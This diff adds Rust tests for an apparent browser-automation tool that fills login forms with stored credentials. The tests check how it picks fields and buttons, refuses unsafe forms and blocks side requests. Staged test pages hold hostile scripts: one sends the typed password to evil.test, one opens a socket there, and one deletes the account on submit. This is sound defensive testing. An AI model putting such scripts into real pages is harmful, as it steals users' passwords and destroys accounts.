@@ -445,6 +445,384 @@ fn r6_r65_logins_end_with_a_named_outcome() {
     run.check(&[("rejected", "failed/login_rejected")]);
 }
 
+/// A page with a form to `/session`, what stands in it given.
+fn form(stage: &Stage, path: &str, inside: &str, after: &str) {
+    let html = format!(
+        "<title>Sign in</title><h1>Sign in</h1><form id=f method=post action=/session>{inside}</form>{after}"
+    );
+    stage.page("shop.test", path, &html);
+}
+
+const PASSWORD: &str = "<label>Password <input id=p name=password type=password></label>";
+
+/// Sends what was filled in by script, and goes where the site's answer leads.
+fn by_script(path: &str, name: &str, value: &str) -> String {
+    format!(
+        "fetch('{path}',{{method:'POST',body:new URLSearchParams({{username:window.u?u.value:'',{name}:{value}}})}})\
+         .then(r=>{{if(r.redirected)location=r.url}})"
+    )
+}
+
+/// R23: the user name by what a field says of itself, the button by what it says it does.
+#[test]
+fn r23_fields_and_buttons_are_chosen_by_what_they_say() {
+    let password = canary(16);
+    let stage = Stage::open(&password);
+    stage.page("*", "/home", "<title>Home</title><h1>Orders</h1>");
+    let send = by_script("/session", "password", "p.value");
+    let button = "<button>Sign in</button>";
+    let user = "<label>User <input id=u name=username></label>";
+    form(
+        &stage,
+        "/tenant",
+        &format!(
+            "<label>User name <input name=username></label><label>Company code <input name=tenant></label>{PASSWORD}{button}"
+        ),
+        "",
+    );
+    form(
+        &stage,
+        "/account",
+        &format!(
+            "<label>E-mail address <input name=username type=email></label><label>Account number (optional) <input name=tenant></label>{PASSWORD}{button}"
+        ),
+        "",
+    );
+    form(
+        &stage,
+        "/unlabelled",
+        &format!(
+            "<label>Benutzername <input name=username></label><input name=tenant>{PASSWORD}{button}"
+        ),
+        "",
+    );
+    form(
+        &stage,
+        "/drawn-password",
+        &format!(
+            "{user}<label>Word <input name=password autocomplete=current-password style=-webkit-text-security:disc></label>{button}"
+        ),
+        "",
+    );
+    form(
+        &stage,
+        "/register-first",
+        &format!(
+            "{user}{PASSWORD}<button type=button onclick=\"p.type='text'\">Show password</button>\
+                  <button formaction=/register>Create account</button><button formaction=/sso>Continue</button><button>Log in</button>"
+        ),
+        "",
+    );
+    form(
+        &stage,
+        "/div-button",
+        &format!(
+            "{user}{PASSWORD}<div role=button tabindex=0 onclick=f.requestSubmit()>Sign in</div>"
+        ),
+        "",
+    );
+    form(
+        &stage,
+        "/typed-button",
+        &format!("{user}{PASSWORD}<button type=button onclick=\"{send}\">Log in</button>"),
+        "",
+    );
+    form(
+        &stage,
+        "/hidden-password",
+        &format!(
+            "<div id=a>{user}<button type=button onclick=\"a.style.display='none';c.style.display=''\">Next</button></div>\
+                  <div id=c style=display:none>{PASSWORD}{button}</div>"
+        ),
+        "",
+    );
+    // The browser would send this one with its password empty.
+    form(
+        &stage,
+        "/empty-password",
+        &format!("{user}<div style=display:none>{PASSWORD}</div><button>Continue</button>"),
+        "",
+    );
+    form(
+        &stage,
+        "/twins",
+        &format!("{user}{PASSWORD}<button>Log in</button><button>Sign in</button>"),
+        "",
+    );
+    form(
+        &stage,
+        "/no-fit",
+        &format!("{user}{PASSWORD}<button>Create account</button>"),
+        "",
+    );
+    form(
+        &stage,
+        "/cut",
+        &format!(
+            "{user}<label>Password <input name=password type=password maxlength=8></label>{button}"
+        ),
+        "",
+    );
+    let new = PASSWORD.replace("type=password", "type=password autocomplete=new-password");
+    form(&stage, "/new-password", &format!("{user}{new}{button}"), "");
+    let in_tab = format!(
+        "<title>Sign in</title><form method=post action=/session target=_blank>{user}{PASSWORD}{button}</form>"
+    );
+    stage.page("shop.test", "/other-tab", &in_tab);
+    let loose = |path: &str, html: &str| {
+        stage.page("shop.test", path, &format!("<title>Sign in</title>{html}"));
+    };
+    loose(
+        "/formless",
+        &format!(
+            "<header><button>Menu</button></header><div>{user}<div>{PASSWORD}<button><svg></svg></button></div>\
+                  <button onclick=\"{send}\">Sign in</button></div>"
+        ),
+    );
+    loose(
+        "/steps",
+        &format!(
+            "<div id=a><h1>Sign in</h1><label>E-mail or phone <input id=u type=email autocomplete=username></label>\
+                  <button type=button onclick=\"a.hidden=true;c.hidden=false\">Next</button></div>\
+                  <div id=c hidden>{PASSWORD}<button type=button onclick=\"{send}\">Next</button></div>"
+        ),
+    );
+    let mut lab = Lab::on(&stage, HOSTS, true);
+    credential(&mut lab, &password);
+    let pass = [
+        "tenant",
+        "account",
+        "unlabelled",
+        "drawn-password",
+        "register-first",
+        "div-button",
+        "typed-button",
+        "hidden-password",
+        "formless",
+        "steps",
+    ];
+    let fail = [
+        "empty-password",
+        "twins",
+        "no-fit",
+        "cut",
+        "new-password",
+        "other-tab",
+    ];
+    for id in pass.iter().chain(&fail) {
+        let start = format!("http://shop.test/{id}");
+        sign_in(&lab, id, &start, "", "{ see: Orders }");
+    }
+    lab.scenario(
+        "followed-tab",
+        "start: http://shop.test/other-tab\ncredentials: [shop]\nsteps:\n  - login: shop\n    opens: tab\nexpect: [ { see: Orders } ]\n",
+    );
+    let run = lab.run(&["--fresh", "--jobs", "2"]);
+    let mut wishes: Vec<(&str, &str)> = pass.map(|id| (id, "passed/completed")).to_vec();
+    wishes.push(("followed-tab", "passed/completed"));
+    wishes.push(("empty-password", "failed/login_not_sent"));
+    for id in &fail[1..] {
+        wishes.push((id, "failed/unsafe_form"));
+    }
+    run.check(&wishes);
+    for (id, words) in [
+        ("cut", "maxlength"),
+        ("new-password", "asks for a new password"),
+        ("twins", "two of its buttons"),
+        ("other-tab", "opens: tab"),
+    ] {
+        assert!(run.failure(id).contains(words), "{}", run.failure(id));
+    }
+    // The user name was typed before the password was cut.
+    let covered = run.of("cut", "frame").any(|frame| {
+        let redactions = frame["redactions"].to_string();
+        redactions.contains("field that shows a registered value")
+    });
+    assert!(covered, "{:?}", run.of("cut", "frame").collect::<Vec<_>>());
+    // Every sign-in went to the form's own address, with both values in their own fields.
+    let sent: Vec<_> = stage
+        .received()
+        .into_iter()
+        .filter(|r| r.method == "POST")
+        .collect();
+    assert_eq!(sent.len(), pass.len() + 1, "{sent:?}");
+    for request in sent {
+        let user: String = url::form_urlencoded::byte_serialize(USER.as_bytes()).collect();
+        let by_name = request.body.contains(&format!("username={user}"));
+        assert!(request.path == "/session" && by_name, "{request:?}");
+        assert!(
+            !request.body.contains(&format!("tenant={user}")),
+            "{request:?}"
+        );
+    }
+}
+
+/// R89, R90: what an entered credential covers is the request that takes it home, nothing beside it.
+#[test]
+fn r89_r90_a_credential_covers_its_own_submit_and_nothing_else() {
+    let password = canary(16);
+    let stage = Stage::open(&password);
+    stage.page("*", "/home", "<title>Home</title><h1>Orders</h1>");
+    let fields =
+        format!("<label>User <input id=u name=username></label>{PASSWORD}<button>Sign in</button>");
+    form(
+        &stage,
+        "/with-delete",
+        &fields,
+        "<script>f.onsubmit=()=>{fetch('/account',{method:'DELETE'});fetch('/pay',{method:'POST'})}</script>",
+    );
+    form(
+        &stage,
+        "/delete-beside",
+        &fields,
+        "<button onclick=\"fetch('/account',{method:'DELETE'})\">Delete account</button>",
+    );
+    form(
+        &stage,
+        "/while-typing",
+        &fields,
+        "<script>p.oninput=()=>fetch('http://evil.test/key',{method:'POST',mode:'no-cors',body:p.value})</script>",
+    );
+    form(
+        &stage,
+        "/socket",
+        &fields,
+        "<script>p.oninput=()=>{window.w=window.w||new WebSocket('ws://evil.test/ws')}</script>",
+    );
+    let mut lab = Lab::on(&stage, HOSTS, false);
+    credential(&mut lab, &password);
+    let evil = "hosts: [evil.test]\n";
+    for id in ["with-delete", "while-typing", "socket"] {
+        sign_in(
+            &lab,
+            id,
+            &format!("http://shop.test/{id}"),
+            evil,
+            "{ see: Orders }",
+        );
+    }
+    for (id, button) in [("by-hand", "Sign in"), ("delete-beside", "Delete account")] {
+        lab.scenario(
+            id,
+            &format!(
+                "start: http://shop.test/delete-beside\ncredentials: [shop]\nsteps:\n  - {{ fill: Password, credential: shop.password }}\n  - click: {button}\nexpect: [ {{ see: Orders }} ]\n"
+            ),
+        );
+    }
+    let run = lab.run(&["--fresh", "--jobs", "2"]);
+    let stopped = "refused/undeclared_write";
+    run.check(&[
+        ("with-delete", stopped),
+        ("delete-beside", stopped),
+        ("while-typing", stopped),
+        ("socket", "passed/completed"),
+        ("by-hand", "passed/completed"),
+    ]);
+    // The first of what was stopped is named: what comes after may be the page's answer to it.
+    for (id, first) in [
+        ("with-delete", "DELETE http://shop.test/account"),
+        ("while-typing", "POST http://evil.test/key"),
+    ] {
+        assert!(run.failure(id).contains(first), "{}", run.failure(id));
+    }
+    let socket = run.of("socket", "blocked").any(|e| {
+        e["host"] == "evil.test" && e["reason"] == "socket to another host during a sign-in"
+    });
+    assert!(
+        socket,
+        "no socket leads elsewhere while a password is typed"
+    );
+    let others: Vec<String> = stage
+        .writes()
+        .into_iter()
+        .filter(|w| !w.ends_with("/session"))
+        .collect();
+    assert!(others.is_empty(), "{others:?}");
+}
+
+/// Codes by what their fields say, one digit to a box; a page that sends nothing has refused nothing.
+#[test]
+fn r23_codes_and_pages_that_send_nothing() {
+    let password = canary(16);
+    let stage = Stage::open(&password);
+    stage.page("*", "/home", "<title>Home</title><h1>Orders</h1>");
+    stage.page("*", "/login-code", "<title>None</title>");
+    let after = |id: &str, code: &str| {
+        let fields = format!(
+            "<label>User <input id=u name=username></label>{PASSWORD}<button>Sign in</button>"
+        );
+        let script = format!(
+            "<script>f.onsubmit=e=>{{e.preventDefault();fetch('/session',{{method:'POST',body:new URLSearchParams(new FormData(f))}})\
+             .then(r=>{{if(r.redirected)location='/code-{id}'}})}}</script>"
+        );
+        form(&stage, &format!("/{id}"), &fields, &script);
+        stage.page(
+            "shop.test",
+            &format!("/code-{id}"),
+            &format!("<title>Code</title><h1>Two steps</h1>{code}"),
+        );
+    };
+    let verify = "<button>Verify</button></form>";
+    after(
+        "labelled",
+        &format!(
+            "<form method=post action=/session/code><label>Authentication code <input name=code></label>\
+                  <button type=button>Use a recovery code</button>{verify}"
+        ),
+    );
+    let boxes: String = (1..=6)
+        .map(|n| format!("<input class=d aria-label=\"Digit {n}\" maxlength=1 size=2>"))
+        .collect();
+    let steps_on = "const d=[...document.querySelectorAll('.d')];d.forEach((e,i)=>e.oninput=()=>{if(d[i+1])d[i+1].focus()";
+    after(
+        "boxes",
+        &format!(
+            "<form id=f method=post action=/session/code>{boxes}<input type=hidden name=code id=c>{verify}\
+                  <script>{steps_on}}});f.onsubmit=()=>{{c.value=d.map(x=>x.value).join('')}}</script>"
+        ),
+    );
+    let code = by_script("/session/code", "code", "d.map(x=>x.value).join('')");
+    after(
+        "by-itself",
+        &format!("<form>{boxes}</form><script>{steps_on};else {code}}})</script>"),
+    );
+    after(
+        "many",
+        "<form method=post action=/session/code><label>Security code <input name=a></label><label>SMS code <input name=b></label><button>Verify</button></form>",
+    );
+    form(
+        &stage,
+        "/silent",
+        &format!(
+            "<label>User <input name=username></label>{PASSWORD}<button type=button>Sign in</button>"
+        ),
+        "",
+    );
+    let mut lab = Lab::on(&stage, HOSTS, true);
+    credential(&mut lab, &password);
+    lab.set("SHOP_TOTP", "JBSWY3DPEHPK3PXP");
+    for id in ["labelled", "boxes", "by-itself", "many", "silent"] {
+        sign_in(
+            &lab,
+            id,
+            &format!("http://shop.test/{id}"),
+            "",
+            "{ see: Orders }",
+        );
+    }
+    let run = lab.run(&["--fresh", "--jobs", "2"]);
+    run.check(&[
+        ("labelled", "passed/completed"),
+        ("boxes", "passed/completed"),
+        ("by-itself", "passed/completed"),
+        ("many", "failed/human_needed"),
+        ("silent", "failed/login_not_sent"),
+    ]);
+    // Counted by nobody: after three the fourth is still tried.
+    let run = lab.run(&["silent", "--fresh", "--repeat", "4"]);
+    run.check(&[("silent", "failed/login_not_sent")]);
+}
+
 /// R6, case 072: what is missing or empty is found before any browser.
 #[test]
 fn r6_case_072_a_missing_or_empty_credential_stops_before_any_browser() {
